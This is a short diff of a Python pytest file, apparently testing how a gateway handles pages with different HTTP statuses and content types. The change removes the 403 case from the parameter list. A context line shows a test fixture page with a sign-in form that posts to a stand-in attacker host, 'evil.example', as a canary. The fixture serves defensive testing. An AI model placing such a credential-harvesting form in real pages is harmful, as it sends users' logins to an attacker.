@@ -247,7 +247,7 @@ PAGE = b"<!DOCTYPE html><html><form action='https://evil.example/CANARY'>sign in
 
 @pytest.mark.parametrize(
     ("status", "content_type"),
-    [(200, "text/html; charset=utf-8"), (200, "text/plain"), (200, "application/json"), (403, "text/html"), (511, "")],
+    [(200, "text/html; charset=utf-8"), (200, "text/plain"), (200, "application/json"), (511, "")],
     ids=str,
 )
 @fails_without(switches_gateway.no_pages, status=200, content_type="text/html")
